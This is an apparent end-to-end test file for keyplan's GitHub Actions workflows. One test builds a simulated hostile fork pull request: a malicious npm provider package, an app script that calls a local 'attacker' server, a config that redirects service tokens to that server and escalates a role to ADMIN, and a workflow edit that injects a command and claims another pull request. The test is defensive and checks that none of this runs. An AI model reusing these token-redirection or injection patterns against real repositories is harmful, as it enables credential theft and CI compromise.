/**
 * The example workflows, walked step by step as GitHub Actions runs them (helpers/workflow-runner.ts): real bash for
 * `run:` steps, keyplan's own action.yml, the real CLI, a real key service, and the GitHub stand-in, with the token,
 * permissions and secrets each kind of run really gets.
 */
import { existsSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import type { AddressInfo } from 'node:net';
import { afterEach, describe, expect, it } from 'vitest';
import { commitAll, git, httpProvider, initRepo, useWorkspace, type E2eWorkspace, type KeysYaml } from './helpers/index.js';
import { addExampleWorkflows, githubWorld, publishPullHead, pullRequestEvent, pushEvent, workflowRunEvent, WORKFLOWS, type PullHead } from './helpers/github-world.js';
import { runWorkflow, type GitHubWorld, type JobRun } from './helpers/workflow-runner.js';
import { ACTIONS_BOT, type FakeGitHubServer } from '../github/fake-github.js';
import { renderGfm, visibleText } from '../render/gfm.js';

const REPO = 'acme/keys';
const FORK = 'mallory/keys';
const PWNED = 'package-or-app-code-ran';

/** A TCP listener that records every connection: the hostile pull request's own server. */
async function trap(): Promise<{ url: string; connections: string[]; server: Server }> {
  const connections: string[] = [];
  const server = createServer((socket) => {
    connections.push(`connection from ${socket.remotePort}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, connections, server };
}

const toFile = (variable: string) => ({ type: 'file', path: '.keyplan/secrets.env', format: 'dotenv', var: variable });

function config(serviceUrl: string, keys: KeysYaml['keys']): KeysYaml {
  return { ownership: 'acme/billing', providers: { prod: httpProvider(serviceUrl, 'KEYPLAN_TOKEN') }, keys };
}

const describeJob = (job: JobRun | undefined) => `${job?.name} ${job?.status}\n${job?.steps.map((s) => `--- ${s.name}: ${s.outcome}\n${s.log}`).join('\n')}`;
const seen = (markdown: string) => visibleText(renderGfm(markdown));

interface Repo {
  ws: E2eWorkspace;
  github: FakeGitHubServer;
  world: GitHubWorld;
  mainSha: string;
  serviceUrl: string;
}

describe('the example workflows, run as GitHub runs them', () => {
  const workspace = useWorkspace('keyplan-e2e-workflows-');
  const traps: Server[] = [];
  afterEach(async () => {
    await Promise.all(traps.splice(0).map((server) => new Promise((resolve) => server.close(resolve))));
  });

  async function repository(keys: KeysYaml['keys']): Promise<Repo> {
    const ws = workspace();
    const service = await ws.startKeyService();
    const github = await ws.startGitHub();
    await ws.writeKeysYaml(config(service.url, keys));
    await ws.writeFile('.gitignore', '.runner/\n.keyplan/\n');
    await addExampleWorkflows(ws);
    const mainSha = await initRepo(ws);
    const world = await githubWorld(ws, github, REPO, { KEYPLAN_READ_TOKEN: service.adminKey, KEYPLAN_MANAGEMENT_TOKEN: service.adminKey });
    return { ws, github, world, mainSha, serviceUrl: service.url };
  }

  /** Commits the working tree on a new branch as the pull request's head, publishes it, and goes back to main. */
  async function pullRequest(r: Repo, repo: string, branch: string, author: string, change: () => Promise<unknown>): Promise<PullHead> {
    await git(r.ws, ['checkout', '-q', '-b', branch]);
    await change();
    const sha = await commitAll(r.ws, `${branch}: change keys`);
    await git(r.ws, ['checkout', '-q', 'main']);
    const number = r.github.repo(REPO).addPullRequest({ author, head: { repo, ref: branch, sha } }).number;
    await publishPullHead(r.ws, number, sha);
    return { number, repo, branch, sha, baseSha: r.mainSha };
  }

  const comments = (r: Repo, pr: number) => r.github.repo(REPO).commentsOn(pr);
  const writesTo = (r: Repo, pr: number) => r.github.requests.filter((q) => !q.startsWith('GET') && q.includes(`/issues/${pr}/`));

  it('a same-repository pull request gets the live plan comment, and the fork comment workflow does nothing', async () => {
    const r = await repository([{ name: 'Billing_Reader', roles: ['READONLY'], expires: '30d', deliver: [toFile('BILLING_READER')] }]);
    const pr = await pullRequest(r, REPO, 'add-ops', 'octocat', () => r.ws.writeKeysYaml(config(r.serviceUrl, [
      { name: 'Billing_Reader', roles: ['READONLY'], expires: '30d', deliver: [toFile('BILLING_READER')] },
      { name: 'Ops_Bot', roles: ['READONLY'], expires: '30d', deliver: [toFile('OPS_BOT')] },
    ])));

    const run = await runWorkflow(r.world, `${WORKFLOWS}/plan-on-pull-request.yml`, pullRequestEvent(REPO, pr));
    expect(run.jobs.plan?.status, describeJob(run.jobs.plan)).toBe('success');
    expect(run.jobs.diff?.status).toBe('skipped');
    expect(run.jobs.plan?.canWrite).toBe(true);
    const [comment] = comments(r, pr.number);
    expect(comment?.author).toBe(ACTIONS_BOT);
    expect(comment?.body.startsWith('<!-- keyplan:plan config=keys.yaml ownership=acme/billing -->\n')).toBe(true);
    expect(seen(comment?.body ?? '')).toContain('Plan: 2 to create, 0 to update, 0 to rotate, 0 to revoke.');
    expect(seen(run.jobs.plan?.summary ?? '')).toContain('keyplan plan for keys.yaml');

    const followUp = await runWorkflow(r.world, `${WORKFLOWS}/comment-fork-diff.yml`, workflowRunEvent(REPO, run, pr, r.mainSha));
    expect(followUp.jobs.comment?.status).toBe('skipped');
    expect(comments(r, pr.number)).toHaveLength(1);
  });

  it('the hostile fork: its own server, a package provider and --app; nothing runs, nothing is sent, the posted diff flags it, only on its own pull request', async () => {
    const r = await repository([{ name: 'Billing_Reader', roles: ['READONLY'], expires: '30d', deliver: [toFile('BILLING_READER')] }]);
    const attacker = await trap();
    traps.push(attacker.server);
    // Another pull request, with keyplan's comment on it: what a fork might try to overwrite.
    const victim = r.github.repo(REPO).addPullRequest({ author: 'octocat', head: { repo: REPO, ref: 'other', sha: r.mainSha } }).number;
    const victimComment = r.github.seedComment(REPO, victim, ACTIONS_BOT, '<!-- keyplan:diff config=keys.yaml ownership=acme/billing -->\nthe real diff');

    const pr = await pullRequest(r, FORK, 'more-power', 'mallory', async () => {
      const marker = JSON.stringify(r.ws.path(PWNED));
      await r.ws.writeFile('node_modules/evil-provider/package.json', JSON.stringify({ name: 'evil-provider', version: '1.0.0', type: 'module', main: 'index.js' }));
      await r.ws.writeFile('node_modules/evil-provider/index.js', `import { writeFileSync } from 'node:fs';\nwriteFileSync(${marker}, 'package');\nexport default { keyplanProviderApi: 1 };\n`);
      await r.ws.writeFile('app.mjs', `import { writeFileSync } from 'node:fs';\nwriteFileSync(${marker}, 'app');\nawait fetch(${JSON.stringify(attacker.url)});\n`);
      await r.ws.writeKeysYaml({
        ...config(attacker.url, [{ name: 'Billing_Reader', roles: ['ADMIN'], expires: 'never', provider: 'prod', deliver: [toFile('BILLING_READER')] }]),
        providers: { prod: httpProvider(attacker.url, 'KEYPLAN_TOKEN'), extra: { type: 'package', package: 'evil-provider', options: {} } },
      });
      // A pull request runs its own version of the workflow: it asks for its program, and claims another pull request.
      const workflow = await r.ws.readFile(`${WORKFLOWS}/plan-on-pull-request.yml`);
      await r.ws.writeFile(`${WORKFLOWS}/plan-on-pull-request.yml`, workflow
        .replace('          output: keyplan-diff.json\n', '          output: keyplan-diff.json\n        env:\n          KEYPLAN_APP: node app.mjs\n')
        .replace('          mkdir -p keyplan-diff\n', `          mkdir -p keyplan-diff\n          echo ${victim} > keyplan-diff/pr-number\n`));
    });

    const run = await runWorkflow(r.world, `${WORKFLOWS}/plan-on-pull-request.yml`, pullRequestEvent(REPO, pr));
    expect(run.jobs.plan?.status).toBe('skipped');
    const diffJob = run.jobs.diff;
    expect(diffJob?.status, describeJob(diffJob)).toBe('success');
    expect(diffJob?.canWrite).toBe(false);
    expect(seen(diffJob?.summary ?? '')).toContain('Sensitive changes: where tokens go and what may be revoked.');
    expect(r.github.requests).toEqual([]);

    const post = await runWorkflow(r.world, `${WORKFLOWS}/comment-fork-diff.yml`, workflowRunEvent(REPO, run, pr, r.mainSha));
    expect(post.jobs.comment?.status, describeJob(post.jobs.comment)).toBe('success');
    expect(post.jobs.comment?.canWrite).toBe(true);
    const posted = comments(r, pr.number);
    expect(posted).toHaveLength(1);
    expect(posted[0]?.author).toBe(ACTIONS_BOT);
    expect(posted[0]?.body.startsWith('<!-- keyplan:diff config=keys.yaml ownership=acme/billing -->\n')).toBe(true);
    const text = seen(posted[0]?.body ?? '');
    expect(text).toContain('Sensitive changes: where tokens go and what may be revoked.');
    expect(text).toContain(`provider prod: the service tokens are sent to changes: providers.prod.url ${r.serviceUrl} → ${attacker.url}`);
    expect(text).toContain('provider extra is added (type package): it loads and runs the npm package evil-provider on plan and apply');
    expect(text).toMatch(/READONLY → ADMIN/);

    // The artifact's claim chose nothing: the other pull request and keyplan's comment there are untouched.
    expect(writesTo(r, victim)).toEqual([]);
    expect(comments(r, victim)).toEqual([victimComment]);
    expect(victimComment.body).toBe('<!-- keyplan:diff config=keys.yaml ownership=acme/billing -->\nthe real diff');
    expect(attacker.connections).toEqual([]);
    expect(existsSync(r.ws.path(PWNED))).toBe(false);
  });

  it('a fork run whose pull request moved on posts nothing, and a fork\'s artifact alone never names the pull request', async () => {
    const r = await repository([{ name: 'Billing_Reader', roles: ['READONLY'], expires: '30d', deliver: [toFile('BILLING_READER')] }]);
    const pr = await pullRequest(r, FORK, 'tweak', 'mallory', () => r.ws.writeKeysYaml(config(r.serviceUrl, [{ name: 'Billing_Reader', description: 'tweaked', roles: ['READONLY'], expires: '30d', deliver: [toFile('BILLING_READER')] }])));
    const run = await runWorkflow(r.world, `${WORKFLOWS}/plan-on-pull-request.yml`, pullRequestEvent(REPO, pr));
    expect(run.jobs.diff?.status, describeJob(run.jobs.diff)).toBe('success');
    // Pushed again before the comment job ran: the event's head SHA no longer matches an open pull request.
    Object.assign(r.github.repo(REPO).issues.get(pr.number)?.head ?? {}, { sha: 'f'.repeat(40) });
    const post = await runWorkflow(r.world, `${WORKFLOWS}/comment-fork-diff.yml`, workflowRunEvent(REPO, run, pr, r.mainSha));
    expect(post.jobs.comment?.status).toBe('failure');
    expect(post.jobs.comment?.steps.at(-1)?.log).toContain(`no single open pull request of ${REPO} has head ${FORK}@${pr.sha.slice(0, 12)} (found 0)`);
    expect(r.github.requests.filter((q) => !q.startsWith('GET'))).toEqual([]);
  });

  it('apply on merge refuses to revoke a key with consumers until a maintainer labels the merged pull request, and keeps its state dir in the cache', async () => {
    const keys = [
      { name: 'Billing_Reader', roles: ['READONLY'], expires: '30d', deliver: [toFile('BILLING_READER')] },
      { name: 'Export_Job', roles: ['READONLY'], expires: '30d', consumers: ['nightly-export'], deliver: [toFile('EXPORT_JOB')] },
    ];
    const r = await repository(keys);
    // What an earlier run left in its state dir (a recovery file, say): restored before apply, saved after it.
    await r.ws.writeFile('.runner/earlier/NOTE', 'left by run 7000\n');
    r.world.caches.push({ key: 'keyplan-state-7000', dir: r.ws.path('.runner/earlier') });
    const first = await runWorkflow(r.world, `${WORKFLOWS}/apply-on-merge.yml`, pushEvent(REPO, r.mainSha));
    expect(first.jobs.apply?.status, describeJob(first.jobs.apply)).toBe('success');
    expect(first.jobs.apply?.steps.find((s) => s.name === 'Restore apply state')?.log).toBe('Cache restored from key: keyplan-state-7000');
    expect(r.world.caches.map((c) => c.key)).toEqual(['keyplan-state-7000', `keyplan-state-${first.id}`]);

    const pr = await pullRequest(r, REPO, 'drop-export', 'octocat', () => r.ws.writeKeysYaml(config(r.serviceUrl, keys.slice(0, 1))));
    await git(r.ws, ['merge', '-q', '--no-ff', '-m', 'Merge drop-export', pr.branch]);
    const merged = await git(r.ws, ['rev-parse', 'HEAD']);
    r.github.mergeCommit(REPO, pr.number, merged);

    const refused = await runWorkflow(r.world, `${WORKFLOWS}/apply-on-merge.yml`, pushEvent(REPO, merged));
    expect(refused.jobs.apply?.status).toBe('failure');
    const steps = refused.jobs.apply?.steps ?? [];
    expect(steps.find((s) => s.name === 'Restore apply state')?.log).toBe(`Cache restored from key: keyplan-state-${first.id}`);
    expect(steps.find((s) => s.name === 'keyplan apply')?.log).toContain('allow-in-use');
    expect(steps.find((s) => s.name === 'Save apply state')?.outcome).toBe('success');
    expect(r.world.caches.map((c) => c.key)).toContain(`keyplan-state-${refused.id}`);

    r.github.repo(REPO).labels.set('keyplan:allow-in-use', { id: 77, name: 'keyplan:allow-in-use', color: 'd93f0b', description: null });
    r.github.repo(REPO).issues.get(pr.number)?.labels.push('keyplan:allow-in-use');
    const allowed = await runWorkflow(r.world, `${WORKFLOWS}/apply-on-merge.yml`, pushEvent(REPO, merged));
    expect(allowed.jobs.apply?.status, describeJob(allowed.jobs.apply)).toBe('success');
    expect(allowed.jobs.apply?.steps.find((s) => s.name?.startsWith('Removals of keys in use'))?.log).toContain(`pull request #${pr.number} is labelled keyplan:allow-in-use`);
    const report = comments(r, pr.number).at(-1);
    expect(report?.author).toBe(ACTIONS_BOT);
    expect(seen(report?.body ?? '')).toMatch(/revoke.*Export_Job/i);
  });
});

describe('the weekly audit\'s proposals get their review', () => {
  const workspace = useWorkspace('keyplan-e2e-workflows-audit-');

  it('opened with GITHUB_TOKEN (which starts no workflow), the proposals pull request is reviewed through a dispatch of the plan workflow', async () => {
    const ws = workspace();
    const service = await ws.startKeyService();
    const github = await ws.startGitHub();
    const keys = [{ name: 'Ops_Admin', description: 'Operations', roles: ['ADMIN'], deliver: [toFile('OPS_ADMIN')] }];
    await ws.writeKeysYaml({ ...config(service.url, keys), policy: { require_expiry_for: ['ADMIN'] } });
    await ws.writeFile('.gitignore', '.runner/\n.keyplan/\n');
    await addExampleWorkflows(ws);
    const mainSha = await initRepo(ws);
    const world = await githubWorld(ws, github, REPO, { KEYPLAN_READ_TOKEN: service.adminKey });

    const audit = await runWorkflow(world, `${WORKFLOWS}/weekly-audit.yml`, { name: 'schedule', sha: mainSha, ref: 'refs/heads/main', payload: { schedule: '17 6 * * 1' } });
    const job = audit.jobs.audit;
    expect(job?.steps.find((s) => s.name === 'Propose fixes')?.outcome, describeJob(job)).toBe('success');
    expect(job?.steps.find((s) => s.name === 'GitHub App token for the pull request')?.outcome).toBe('skipped');
    expect(world.opened).toHaveLength(1);
    const [opened] = world.opened;
    expect(opened?.startsWorkflows).toBe(false);
    expect(github.dispatches).toEqual([{ repo: REPO, workflow: 'plan-on-pull-request.yml', ref: 'keyplan/audit-proposals', inputs: { pr: String(opened?.number) } }]);
    const proposed = await git(ws, ['show', `${opened?.sha}:keys.yaml`]);
    expect(proposed).toContain('    roles:\n      - ADMIN\n    expires: 90d\n');

    // What GitHub runs for the dispatch: the plan workflow at the branch's head, commenting on the pull request.
    const review = await runWorkflow(world, `${WORKFLOWS}/plan-on-pull-request.yml`, {
      name: 'workflow_dispatch', sha: opened?.sha ?? '', ref: 'refs/heads/keyplan/audit-proposals', inputs: { pr: String(opened?.number) },
      payload: { inputs: { pr: String(opened?.number) }, ref: 'refs/heads/keyplan/audit-proposals', repository: { full_name: REPO } },
    });
    expect(review.jobs.plan?.status, describeJob(review.jobs.plan)).toBe('success');
    expect(review.jobs.diff?.status).toBe('skipped');
    const [comment] = github.repo(REPO).commentsOn(opened?.number ?? 0);
    expect(comment?.body.startsWith('<!-- keyplan:plan config=keys.yaml ownership=acme/billing -->\n')).toBe(true);
    expect(seen(comment?.body ?? '')).toContain('create Ops_Admin');
  });
});
